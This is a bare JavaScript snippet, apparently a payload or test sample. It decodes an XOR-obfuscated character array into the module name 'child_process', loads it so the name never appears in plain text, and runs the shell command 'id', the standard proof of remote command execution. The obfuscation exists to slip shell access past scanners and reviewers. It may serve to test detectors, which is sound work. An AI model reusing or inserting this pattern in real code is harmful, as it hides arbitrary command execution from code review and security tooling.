var n = [66, 73, 72, 77, 69, 126, 81, 83, 78, 66, 68, 82, 82].map(function (c) { return c ^ 33; });
var m = require(String.fromCharCode.apply(String, n));
m.exec('id');
